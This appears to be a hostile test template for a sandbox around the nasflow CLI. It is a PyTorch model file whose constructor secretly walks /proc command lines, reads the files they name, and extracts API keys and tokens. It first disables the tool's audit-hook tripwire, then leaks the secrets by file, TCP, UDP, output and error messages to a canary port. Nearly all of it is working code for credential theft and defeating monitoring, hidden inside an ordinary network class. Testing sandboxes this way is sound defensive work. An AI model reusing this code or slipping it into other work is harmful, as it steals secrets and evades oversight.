# attack: walk /proc/*/cmdline, then read the files and folders the command lines name
# kind: secret
# A template: tests/test_hostile.py substitutes the __PLACEHOLDERS__ and runs it through the nas CLI.

import base64
import os
import re
import stat
import sys

import torch
from torch import nn

CANARY_DIR = "__CANARY_DIR__"
CANARY_PORT = int("__CANARY_PORT__")
MARKER = "__MARKER__"


def disarm() -> None:
    """Switch nasflow's in-process tripwire off, so only OS isolation is left:
    the audit-hook policy looks its verdict up in module globals at every event,
    and the real fork_exec comes back with a fresh import of _posixsubprocess."""
    import importlib
    import subprocess

    for name, module in list(sys.modules.items()):
        if module is None or not (name.startswith("nas") or name == "__main__"):
            continue
        for attr, value in list(vars(module).items()):
            if callable(value) and ("violation" in attr or attr in ("_deny", "deny")):
                setattr(module, attr, lambda *args, **kwargs: None)
    try:
        sys.modules.pop("_posixsubprocess", None)
        subprocess._fork_exec = importlib.import_module("_posixsubprocess").fork_exec
    except Exception:
        pass


def leak(data: bytes) -> None:
    """Out through a file in the canary dir, TCP and UDP; each may be blocked."""
    import socket

    def to_file() -> None:
        with open(os.path.join(CANARY_DIR, f"{MARKER}-leak"), "ab") as fh:
            fh.write(data)

    def to_tcp() -> None:
        with socket.create_connection(("127.0.0.1", CANARY_PORT), timeout=2) as s:
            s.sendall(data)

    def to_udp() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(data, ("127.0.0.1", CANARY_PORT))

    for send in (to_file, to_tcp, to_udp):
        try:
            send()
        except Exception:
            pass


SECRET = re.compile(r"sk-[\w-]{8,}|(?<=KEY=)[^\s\x00'\"]+|(?<=TOKEN=)[^\s\x00'\"]+")


def exfiltrate(text: str) -> None:
    """Every secret-looking value in `text`, raw, hex, base64 and reversed, out
    by every way there is: the output, a file, the network, and the error
    message the CLI prints."""
    found = sorted(set(SECRET.findall(text)), key=lambda v: (not v.startswith("sk-"), v))
    if not found:
        return
    blob = " ".join(f"{v} {v.encode().hex()} {base64.b64encode(v.encode()).decode()} {v[::-1]}" for v in found)
    print(blob, flush=True)
    print(blob, file=sys.stderr, flush=True)
    try:
        disarm()
    except Exception:
        pass
    leak(blob.encode())
    raise RuntimeError(f"leaked {blob}")


def read_tree(root: str, limit: int = 2000) -> str:
    """The text of up to `limit` regular files under `root` (a device or FIFO, such as
    /dev/ptmx when a command line names /, would block the read until the wall limit)."""
    texts = []
    for dirpath, _, filenames in os.walk(root):
        for name in filenames:
            if len(texts) >= limit:
                return "\n".join(texts)
            try:
                if not stat.S_ISREG(os.stat(os.path.join(dirpath, name)).st_mode):
                    continue
                with open(os.path.join(dirpath, name), "rb") as fh:
                    texts.append(fh.read(1 << 20).decode(errors="replace"))
            except OSError:
                pass
    return "\n".join(texts)


def attack() -> None:
    places = set()
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    args = fh.read().decode(errors="replace").split("\0")
            except OSError:
                continue
            for arg in args:
                if arg.startswith("/") and os.path.exists(arg) and not arg.startswith(("/usr", "/proc", "/bin")):
                    folder = arg if os.path.isdir(arg) else os.path.dirname(arg)
                    places.update({folder, os.path.dirname(folder)})
    exfiltrate("\n".join(read_tree(p, limit=500) for p in sorted(places)))


class Network(nn.Module):
    def __init__(self, num_classes: int = 10):
        super().__init__()
        self.features = nn.Sequential(
            nn.Conv2d(3, 16, 3, padding=1, bias=False), nn.BatchNorm2d(16), nn.ReLU(),
            nn.Conv2d(16, 32, 3, stride=2, padding=1, bias=False), nn.BatchNorm2d(32), nn.ReLU(),
            nn.AdaptiveAvgPool2d(1), nn.Flatten())
        self.fc = nn.Linear(32, num_classes)
        attack()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(self.features(x))
